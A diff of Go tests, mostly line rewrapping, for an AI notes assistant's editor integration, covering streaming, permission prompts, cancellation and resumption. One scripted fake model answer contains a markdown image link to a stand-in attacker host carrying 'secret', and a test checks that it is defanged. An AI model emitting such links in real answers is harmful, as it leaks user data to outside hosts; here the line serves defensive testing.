@@ -28,8 +28,12 @@ import (
 // runs returns a model that plans a search and quotes what it finds.
 func runs() *llmtest.Script {
 	return llmtest.NewScript(
-		llmtest.Answer{Match: asksPlanner, Text: `{"reasoning":"look it up","steps":[{"id":"1","tool":"search_notes","input":{"query":"running"}},{"id":"2","tool":"list_tasks","input":{}}]}`, Always: true},
-		llmtest.Answer{Match: asksExplainer, Thinking: "Quote it.", Text: "You wrote: “I run three times a week” [1]. ![x](http://evil.example/?q=secret)", Always: true},
+		llmtest.Answer{Match: asksPlanner, Text: `{"reasoning":"look it up","steps":[{"id":"1","tool":"search_notes",` +
+			`"input":{"query":"running"}},{"id":"2","tool":"list_tasks","input":{}}]}`, Always: true},
+		llmtest.Answer{
+			Match: asksExplainer, Thinking: "Quote it.",
+			Text: "You wrote: “I run three times a week” [1]. ![x](http://evil.example/?q=secret)", Always: true,
+		},
 	)
 }
 
@@ -39,7 +43,8 @@ func TestEditorGetsTheEventsOfTheChat(t *testing.T) {
 	env := environ(t, t.TempDir(), runs())
 	vault := indexed(t, env)
 	var said, thought, plan, calls, verdicts []string
-	lines := bufio.NewScanner(strings.NewReader(run(t, env, "ask", "--stream-json", "--notes", vault, "how often do I run?")))
+	lines := bufio.NewScanner(strings.NewReader(run(t, env, "ask", "--stream-json", "--notes",
+		vault, "how often do I run?")))
 	lines.Buffer(nil, 1<<20)
 	for lines.Scan() {
 		var e agent.Event
@@ -70,7 +75,8 @@ func TestEditorGetsTheEventsOfTheChat(t *testing.T) {
 		t.Errorf("it stopped with %s", stop)
 	}
 	updates := e.told(id)
-	if got, want := answered(updates), strings.ReplaceAll(strings.Join(said, ""), "![x]", "! [x]"); got != want || got == "" {
+	if got, want := answered(updates), strings.ReplaceAll(strings.Join(said, ""), "![x]", "! [x]"); got != want ||
+		got == "" {
 		t.Errorf("the answer is %q, ask says %q", got, want)
 	}
 	var thoughts, places []string
@@ -100,10 +106,13 @@ func TestEditorGetsTheEventsOfTheChat(t *testing.T) {
 	if strings.Join(thoughts, "") != strings.Join(thought, "") {
 		t.Errorf("thoughts are %q, ask tells %q", thoughts, thought)
 	}
-	if last == nil || len(last.Entries) != len(plan) || !strings.HasPrefix(last.Entries[0].Content, plan[0]) || last.Entries[0].Status != sdk.PlanEntryStatusCompleted || last.Entries[1].Status != sdk.PlanEntryStatusCompleted {
+	if last == nil || len(last.Entries) != len(plan) || !strings.HasPrefix(last.Entries[0].Content, plan[0]) ||
+		last.Entries[0].Status != sdk.PlanEntryStatusCompleted ||
+		last.Entries[1].Status != sdk.PlanEntryStatusCompleted {
 		t.Errorf("the plan is %s, ask tells %v", jsonOf(last), plan)
 	}
-	if len(status) != len(plan) || kinds["search_notes"] != sdk.ToolKindSearch || kinds["list_tasks"] != sdk.ToolKindRead {
+	if len(status) != len(plan) || kinds["search_notes"] != sdk.ToolKindSearch ||
+		kinds["list_tasks"] != sdk.ToolKindRead {
 		t.Errorf("the calls are %v of kinds %v", status, kinds)
 	}
 	for call, s := range status {
@@ -145,7 +154,8 @@ func TestEditorAsksForPermission(t *testing.T) {
 	}
 	failed := false
 	for _, u := range e.told(id) {
-		failed = failed || u.ToolCallUpdate != nil && u.ToolCallUpdate.Status != nil && *u.ToolCallUpdate.Status == sdk.ToolCallStatusFailed
+		failed = failed || u.ToolCallUpdate != nil && u.ToolCallUpdate.Status != nil &&
+			*u.ToolCallUpdate.Status == sdk.ToolCallStatusFailed
 	}
 	if !failed {
 		t.Error("a call that was denied is not shown so")
@@ -177,14 +187,16 @@ func TestEditorAsksForPermission(t *testing.T) {
 	for _, o := range p.Options {
 		options = append(options, string(o.OptionId)+" "+string(o.Kind))
 	}
-	if got := strings.Join(options, ", "); got != "once allow_once, conversation allow_always, always allow_always, no reject_once" {
+	if got := strings.Join(options, ", "); got != "once allow_once, conversation allow_always, always allow_always, "+
+		"no reject_once" {
 		t.Errorf("the options are %s", got)
 	}
 	if got := *p.ToolCall.Title; got != "Allow add_task? Add 1 line to tasks.md, line 4" {
 		t.Errorf("the question is %q", got)
 	}
 	content := jsonOf(p.ToolCall.Content)
-	if !strings.Contains(content, "+ - [ ] call Ines") || !strings.Contains(content, `"path":"`+tasks+`"`) || !strings.Contains(content, `call the plumber\n- [ ] call Ines`) {
+	if !strings.Contains(content, "+ - [ ] call Ines") || !strings.Contains(content, `"path":"`+tasks+`"`) ||
+		!strings.Contains(content, `call the plumber\n- [ ] call Ines`) {
 		t.Errorf("the question does not show what will be written: %s", content)
 	}
 	if !strings.Contains(asides(e.told(id)), "changed tasks.md") {
@@ -217,8 +229,12 @@ func TestCancelStopsATurn(t *testing.T) {
 	hold := make(chan struct{})
 	defer close(hold)
 	env := environ(t, t.TempDir(), llmtest.NewScript(
-		llmtest.Answer{Match: asksPlanner, Text: `{"steps":[{"id":"1","tool":"search_notes","input":{"query":"running"}}]}`, Always: true},
-		llmtest.Answer{Match: asksExplainer, Pieces: []string{"Three ", "times"}, Hold: hold, HoldAfter: 1, Always: true},
+		llmtest.Answer{Match: asksPlanner, Text: `{"steps":[{"id":"1","tool":"search_notes",` +
+			`"input":{"query":"running"}}]}`, Always: true},
+		llmtest.Answer{
+			Match: asksExplainer, Pieces: []string{"Three ", "times"}, Hold: hold,
+			HoldAfter: 1, Always: true,
+		},
 	))
 	vault := indexed(t, env)
 	e, _ := inside(t, env, vault)
@@ -227,7 +243,11 @@ func TestCancelStopsATurn(t *testing.T) {
 	go func() { stopped <- e.ask(t, id, text("how often do I run?")) }()
 	isAnswer := func(u sdk.SessionUpdate) bool { return u.AgentMessageChunk != nil }
 	e.await(t, id, "answer", isAnswer)
-	if _, err := e.Prompt(t.Context(), sdk.PromptRequest{SessionId: id, Prompt: []sdk.ContentBlock{text("and now?")}}); err == nil || !strings.Contains(err.Error(), "still answering") {
+	if _, err := e.Prompt(t.Context(), sdk.PromptRequest{
+		SessionId: id,
+		Prompt:    []sdk.ContentBlock{text("and now?")},
+	}); err == nil ||
+		!strings.Contains(err.Error(), "still answering") {
 		t.Errorf("a second prompt at once: %v", err)
 	}
 	other := e.begin(t, vault)
@@ -261,7 +281,8 @@ func TestCancelStopsATurn(t *testing.T) {
 func TestTurnIsResumedAfterAKill(t *testing.T) {
 	hold := make(chan struct{})
 	env := environ(t, t.TempDir(), llmtest.NewScript(
-		llmtest.Answer{Match: asksPlanner, Text: `{"steps":[{"id":"1","tool":"search_notes","input":{"query":"running"}},{"id":"2","tool":"add_task","input":{"text":"buy shoes"},"after":["1"]}]}`},
+		llmtest.Answer{Match: asksPlanner, Text: `{"steps":[{"id":"1","tool":"search_notes",` +
+			`"input":{"query":"running"}},{"id":"2","tool":"add_task","input":{"text":"buy shoes"},"after":["1"]}]}`},
 		llmtest.Answer{Match: asksExplainer, Pieces: []string{"It is ", "done."}, Hold: hold, HoldAfter: 1},
 		llmtest.Answer{Match: asksExplainer, Text: "It is done.", Always: true},
 	))
@@ -274,7 +295,10 @@ func TestTurnIsResumedAfterAKill(t *testing.T) {
 	defer close(waiting)
 	id := e.begin(t, vault)
 	go func() {
-		_, _ = e.Prompt(t.Context(), sdk.PromptRequest{SessionId: id, Prompt: []sdk.ContentBlock{text("add shoes for running")}})
+		_, _ = e.Prompt(t.Context(), sdk.PromptRequest{
+			SessionId: id,
+			Prompt:    []sdk.ContentBlock{text("add shoes for running")},
+		})
 	}()
 	isAsked := func(u sdk.SessionUpdate) bool {
 		return u.ToolCall != nil && u.ToolCall.Status == sdk.ToolCallStatusPending
@@ -287,7 +311,8 @@ func TestTurnIsResumedAfterAKill(t *testing.T) {
 	e.answer = func(sdk.RequestPermissionRequest) string { return "once" }
 	load(t, e, id, vault)
 	updates := e.told(id)
-	if updates[0].UserMessageChunk == nil || updates[0].UserMessageChunk.Content.Text.Text != "add shoes for running" || !strings.Contains(asides(updates), "/continue resumes it") {
+	if updates[0].UserMessageChunk == nil || updates[0].UserMessageChunk.Content.Text.Text != "add shoes for running" ||
+		!strings.Contains(asides(updates), "/continue resumes it") {
 		t.Errorf("loaded: %s", jsonOf(updates))
 	}
 	e.forget()
@@ -295,7 +320,8 @@ func TestTurnIsResumedAfterAKill(t *testing.T) {
 		_, _ = e.Prompt(t.Context(), sdk.PromptRequest{SessionId: id, Prompt: []sdk.ContentBlock{text("/continue")}})
 	}()
 	again := e.await(t, id, "question", isAsked)
-	if jsonOf(again.ToolCall.RawInput) != jsonOf(first.ToolCall.RawInput) || again.ToolCall.ToolCallId != first.ToolCall.ToolCallId {
+	if jsonOf(again.ToolCall.RawInput) != jsonOf(first.ToolCall.RawInput) ||
+		again.ToolCall.ToolCallId != first.ToolCall.ToolCallId {
 		t.Errorf("asked again: %s", jsonOf(again))
 	}
 	e.await(t, id, "answer", func(u sdk.SessionUpdate) bool { return answered([]sdk.SessionUpdate{u}) != "" })
@@ -340,7 +366,10 @@ func kill(t *testing.T, cmd *exec.Cmd) {
 
 func load(t *testing.T, e *editor, id sdk.SessionId, cwd string) {
 	t.Helper()
-	if _, err := e.LoadSession(t.Context(), sdk.LoadSessionRequest{SessionId: id, Cwd: cwd, McpServers: []sdk.McpServer{}}); err != nil {
+	if _, err := e.LoadSession(t.Context(), sdk.LoadSessionRequest{
+		SessionId: id, Cwd: cwd,
+		McpServers: []sdk.McpServer{},
+	}); err != nil {
 		t.Fatal(err)
 	}
 }
@@ -354,7 +383,8 @@ func TestExitSuspendsATurn(t *testing.T) {
 		"end of file": func(_ *exec.Cmd, in io.Closer) error { return in.Close() },
 	} {
 		env := environ(t, t.TempDir(), llmtest.NewScript(
-			llmtest.Answer{Match: asksPlanner, Text: `{"steps":[{"id":"1","tool":"search_notes","input":{"query":"running"}}]}`},
+			llmtest.Answer{Match: asksPlanner, Text: `{"steps":[{"id":"1","tool":"search_notes",` +
+				`"input":{"query":"running"}}]}`},
 			llmtest.Answer{Match: asksExplainer, Pieces: []string{"Three ", "times"}, Hold: hold, HoldAfter: 1},
 			llmtest.Answer{Match: asksExplainer, Text: "Three times.", Always: true},
 		))
@@ -362,7 +392,10 @@ func TestExitSuspendsATurn(t *testing.T) {
 		e, cmd, in := program(t, env, "--notes", vault)
 		id := e.begin(t, vault)
 		go func() {
-			_, _ = e.Prompt(t.Context(), sdk.PromptRequest{SessionId: id, Prompt: []sdk.ContentBlock{text("how often do I run?")}})
+			_, _ = e.Prompt(t.Context(), sdk.PromptRequest{
+				SessionId: id,
+				Prompt:    []sdk.ContentBlock{text("how often do I run?")},
+			})
 		}()
 		e.await(t, id, "answer", func(u sdk.SessionUpdate) bool { return u.AgentMessageChunk != nil })
 		if err := end(cmd, in); err != nil {
@@ -387,7 +420,8 @@ func TestEditorInAnotherLanguage(t *testing.T) {
 	vault := indexed(t, env)
 	ctx, cancel := context.WithTimeout(t.Context(), patience)
 	defer cancel()
-	cmd := exec.CommandContext(ctx, node, "testdata/editor.mjs", lib, vault, "once", os.Args[0], "acp", "--notes", vault, "--", "how often do I run?", "/task call Ines")
+	cmd := exec.CommandContext(ctx, node, "testdata/editor.mjs", lib, vault, "once", os.Args[0], "acp", "--notes",
+		vault, "--", "how often do I run?", "/task call Ines")
 	cmd.Env, cmd.Stderr = env, t.Output()
 	out, err := cmd.Output()
 	var result struct {
@@ -400,14 +434,16 @@ func TestEditorInAnotherLanguage(t *testing.T) {
 	if err == nil {
 		err = json.Unmarshal(out, &result)
 	}
-	if err != nil || len(result.Stops) != 2 || result.Stops[1] != sdk.StopReasonEndTurn || len(result.Listed.Sessions) != 1 || len(result.Asked) != 1 {
+	if err != nil || len(result.Stops) != 2 || result.Stops[1] != sdk.StopReasonEndTurn ||
+		len(result.Listed.Sessions) != 1 || len(result.Asked) != 1 {
 		t.Fatalf("%v: %s", err, out)
 	}
 	live, loaded := result.Updates[:result.From], result.Updates[result.From:]
 	if got := answered(live); !strings.Contains(got, "three times a week") || got != answered(loaded) {
 		t.Errorf("the answers are %q, loaded %q", got, answered(loaded))
 	}
-	if !strings.Contains(apptest.Read(t, filepath.Join(vault, "tasks.md")), "- [ ] call Ines") || !strings.Contains(asides(loaded), "changed tasks.md") {
+	if !strings.Contains(apptest.Read(t, filepath.Join(vault, "tasks.md")), "- [ ] call Ines") ||
+		!strings.Contains(asides(loaded), "changed tasks.md") {
 		t.Errorf("the task is not there, or not told: %s", asides(loaded))
 	}
 }
@@ -475,7 +511,10 @@ func TestQuestionOutlivesTheEditor(t *testing.T) {
 	defer close(waiting)
 	id := e.begin(t, vault)
 	go func() {
-		_, _ = e.Prompt(t.Context(), sdk.PromptRequest{SessionId: id, Prompt: []sdk.ContentBlock{text("/task call Ines")}})
+		_, _ = e.Prompt(t.Context(), sdk.PromptRequest{
+			SessionId: id,
+			Prompt:    []sdk.ContentBlock{text("/task call Ines")},
+		})
 	}()
 	e.await(t, id, "question", func(u sdk.SessionUpdate) bool {
 		return u.ToolCall != nil && u.ToolCall.Status == sdk.ToolCallStatusPending
@@ -499,7 +538,8 @@ func TestRiderReachesTheEditor(t *testing.T) {
 		answer = append(answer, fmt.Sprintf("You wrote: “%s” [%d]", r.Words, i+1))
 	}
 	env := environ(t, t.TempDir(), llmtest.NewScript(
-		llmtest.Answer{Match: asksPlanner, Text: `{"steps":[` + strings.Join(steps, ",") + `]}`}, llmtest.Answer{Match: asksExplainer, Text: strings.Join(answer, "\n\n")},
+		llmtest.Answer{Match: asksPlanner, Text: `{"steps":[` + strings.Join(steps, ",") + `]}`},
+		llmtest.Answer{Match: asksExplainer, Text: strings.Join(answer, "\n\n")},
 	))
 	vault := indexed(t, env)
 	apptest.WriteRiders(t, vault)
